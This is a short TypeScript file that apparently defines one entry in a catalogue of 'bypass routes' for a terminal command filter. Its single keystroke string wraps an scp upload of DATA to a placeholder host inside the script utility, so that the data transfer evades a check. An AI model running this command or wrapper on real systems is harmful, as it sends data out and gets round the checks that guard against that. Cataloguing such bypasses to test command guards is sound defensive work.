import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by script',
  source: 'thought of with the keys of the line editor',
  keys: ["script -qc 'scp DATA host:' /dev/null\r"],
};
